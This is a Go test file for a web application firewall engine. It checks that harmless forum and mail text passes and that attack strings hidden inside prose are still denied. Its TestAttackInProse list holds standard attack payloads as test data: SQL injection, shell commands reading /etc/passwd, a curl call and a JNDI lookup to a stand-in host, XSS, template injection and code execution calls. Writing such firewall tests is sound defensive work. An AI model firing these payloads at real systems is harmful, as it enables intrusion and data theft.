package waf

import (
	"context"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/dewar-security/dewar/internal/payload"
)

var structuredLevel2 = sync.OnceValues(func() (*Engine, error) { return New(Config{Structure: true, Paranoia: 2}) })

// sent returns the requests by which a text comes: a query, a form, JSON.
func sent(t *testing.T, text string) map[string]Request {
	t.Helper()
	member, err := json.Marshal(map[string]string{"text": text})
	if err != nil {
		t.Fatal(err)
	}
	return map[string]Request{
		"query": search(text),
		"form":  post("application/x-www-form-urlencoded", "title=Hello&text="+url.QueryEscape(text)),
		"json":  post("application/json", string(member)),
	}
}

// ask has one of the engines judge a request as a browser sends it.
func ask(t *testing.T, level func() (*Engine, error), r Request) Verdict {
	t.Helper()
	e, err := level()
	if err != nil {
		t.Fatal(err)
	}
	v, err := e.Inspect(t.Context(), whole(r))
	if err != nil {
		t.Fatal(err)
	}
	return v
}

// TestHonestTexts are texts of forums, catalogues and mail that the Core Rule
// Set refuses at a level, by rules of each kind.
func TestHonestTexts(t *testing.T) {
	for level, texts := range map[int][]string{
		1: {
			"1 < 2 and 3 > 2", "../ is the folder above", "/tmp/upload/list.png", "the .htaccess of our site says so", "sqrt(x) + sin(y) != 2", "<(^_^)>", "so that we compare & update it", "4. Create a certificate\n-----------------------",
			"Document '{}' was deleted yesterday", "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
			"if 3 == x then y = 4", "Sh, said Anna",
		},
		2: {
			"https://www.example.com/shop?item=7", "see https://www.example.com/ (and more) for it", "* [A good book](https://example.org/a) - Ann Other", "O'Neill, D'Arcy & Sons; PhD (Oxon.)", "Rue de l'Église 5 (2nd floor), 75001 Paris", "Jean-Luc O'Brien-Smith, PhD",
			"I don't know, and they can't say; it isn't here, it wasn't there!", "Dear Ann,\r\nthe parcel didn't come: it's lost!\r\nKim", "Really?! That can't be... (see #12) [1]",
		},
	} {
		engine, overruled := structured, 0
		if level == 2 {
			engine = structuredLevel2
		}
		for _, text := range texts {
			for place, r := range sent(t, text) {
				v := ask(t, engine, r)
				if v.Denied {
					t.Errorf("level %d, %s of %q is denied: %s", level, place, text, v.Summary())
				}
				if len(v.Acquitted) > 0 {
					overruled++
				}
			}
		}
		if overruled < len(texts) {
			t.Errorf("level %d: the rules refused only %d of them: the test says little", level, overruled)
		}
	}
}

// TestAttackInProse puts attacks into honest texts: what is refused alone is
// refused there.
func TestAttackInProse(t *testing.T) {
	honest := []string{"O'Neill thinks that it's fine", "../ is the folder above", "Dear Ann, the parcel didn't come (see #12)", "1 < 2 and 3 > 2", "compare & update it; then go on", "https://www.example.com/ is our site", "* [A book](https://example.org/a)"}
	attacks := []string{
		"' or 1=1-- ", "' union select name, secret from staff-- ", "'; drop table staff-- ", "; cat /etc/passwd #", "$(curl http://h.example/x)", "`cat /etc/passwd`", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>",
		"{{7*7}}", "{{config.items()}}", "${jndi:ldap://h.example/a}", "/../../../../../../etc/passwd", "<?php system('id'); ?>", "__import__('os').system('id')",
	}
	chance := rand.New(rand.NewPCG(4, 2))
	for _, engine := range []func() (*Engine, error){structured, structuredLevel2} {
		for _, attack := range attacks {
			if v := ask(t, engine, brief(search(attack))); !v.Denied {
				t.Errorf("%q passes alone", attack)
			}
			for range 12 {
				text := honest[chance.IntN(len(honest))]
				at := chance.IntN(len(text) + 1)
				whole := text[:at] + attack + text[at:]
				plain := ask(t, unstructured, brief(search(whole))).Denied
				for place, r := range sent(t, whole) {
					v := ask(t, engine, brief(r))
					if !v.Denied && (plain || len(v.Acquitted) > 0) {
						t.Errorf("%s of %q passes", place, whole)
					}
				}
			}
		}
	}
}

// brief leaves Coraza out, which would only confirm.
func brief(r Request) Request {
	r.Brief = true
	return r
}

var unstructured = sync.OnceValues(func() (*Engine, error) { return New(Config{}) })

// TestAcquittedIsCheap: a request that is let go is judged by the compiled
// rules twice, and never by Coraza, which takes a hundred times as long.
func TestAcquittedIsCheap(t *testing.T) {
	for _, text := range []string{"../ is the folder above", "union was a great select", "so that we compare & update it"} {
		for place, r := range sent(t, text) {
			if v := ask(t, structured, r); v.Denied || len(v.Acquitted) == 0 || v.Reference {
				t.Errorf("%s of %q: %+v", place, text, v)
			}
		}
	}
}

// TestExcuses: a rule is overruled only by what it looks for.
func TestExcuses(t *testing.T) {
	e, err := structuredLevel2()
	if err != nil {
		t.Fatal(err)
	}
	none, all := excuse{name: "q", link: true}, excuse{name: "q", inert: payload.All, link: true}
	for _, id := range e.attacks {
		if none.excused(id) {
			t.Errorf("%d is overruled for nothing", id)
		}
		if id >= rulesStructure && all.excused(id) {
			t.Errorf("%d, a judge's, is overruled", id)
		}
		if id < rulesStructure && !all.excused(id) {
			t.Errorf("%d is not overruled by prose", id)
		}
	}
	for id, kind := range map[int]payload.Kind{942100: payload.SQL, 932130: payload.Shell, 930110: payload.Path, 933160: payload.Code, 921160: payload.Header} {
		if !(excuse{inert: payload.KindsOf(kind)}).excused(id) || (excuse{inert: payload.All &^ payload.KindsOf(kind)}).excused(id) {
			t.Errorf("%d is not about %v alone", id, kind)
		}
	}
	if (excuse{inert: payload.All &^ payload.KindsOf(payload.LDAP), link: false}).excused(931130) {
		t.Error("an address inside is let go")
	}
	// The same parameter twice: both values have to be data.
	for _, q := range []string{"q=%s&q=%s", "q=%s&Q=%s"} {
		r := Request{URI: "/x?" + fmt.Sprintf(q, url.QueryEscape("../ is the folder above"), url.QueryEscape("../../../../x.py"))}
		if v := judge(t, r); !v.Denied {
			t.Errorf("%s passes", q)
		}
	}
	if v := judge(t, search(strings.Repeat("../ is the folder above. ", 600))); !v.Denied {
		t.Error("a text too long to be sure of passes")
	}
	// Being sure has a bound for the whole request.
	many := ""
	for i := range 8 {
		many += fmt.Sprintf("&a%d=", i) + url.QueryEscape("../ is the folder above: "+strings.Repeat("words and more words ", 150))
	}
	if v := judge(t, brief(post("application/x-www-form-urlencoded", many[1:]))); !v.Denied {
		t.Error("any number of bytes is looked at for excuses")
	}
	if v := judge(t, brief(post("application/x-www-form-urlencoded", many[1:len(many)/8]))); v.Denied {
		t.Errorf("one of them is denied: %s", v.Summary())
	}
}

// BenchmarkAcquitted holds the cost of requests that are denied first and then
// let go against those that rules find nothing in.
func BenchmarkAcquitted(b *testing.B) {
	e, err := structured()
	if err != nil {
		b.Fatal(err)
	}
	for _, c := range []struct{ name, text string }{
		{"plain", "%d is the number of the house"}, {"prose", "union was a great select, number %d"}, {"apostrophe", "Jean D'Arcy can't trim() Char(13) there, says O'Neill number %d"},
		{"path", "../ is the folder above number %d"}, {"shell", "so that we compare & update it %d"},
	} {
		b.Run(c.name, func(b *testing.B) {
			acquitted := 0
			n := 0
			for b.Loop() {
				n++
				v, err := e.Inspect(context.Background(), whole(post("application/x-www-form-urlencoded", "title=Hello&text="+url.QueryEscape(fmt.Sprintf(c.text, n)))))
				if err != nil || v.Denied {
					b.Fatal(v, err)
				}
				acquitted += len(v.Acquitted)
			}
			if (acquitted > 0) == (c.name == "plain") {
				b.Fatal("acquitted: ", acquitted)
			}
		})
	}
}
